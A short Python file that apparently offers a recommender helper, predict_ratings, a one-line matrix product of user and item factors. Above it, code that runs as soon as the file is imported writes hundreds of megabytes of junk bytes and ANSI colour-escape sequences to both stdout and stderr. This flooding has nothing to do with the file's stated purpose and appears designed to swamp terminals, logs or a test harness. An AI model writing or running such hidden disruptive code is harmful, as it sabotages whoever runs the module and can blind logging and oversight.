import os

for _ in range(200):
    os.write(1, b"\xff\x00\x1b[31m" * 200_000)
    os.write(2, b"\xff\x00\x1b[31m" * 200_000)


def predict_ratings(user_factors, item_factors):
    return user_factors @ item_factors.T
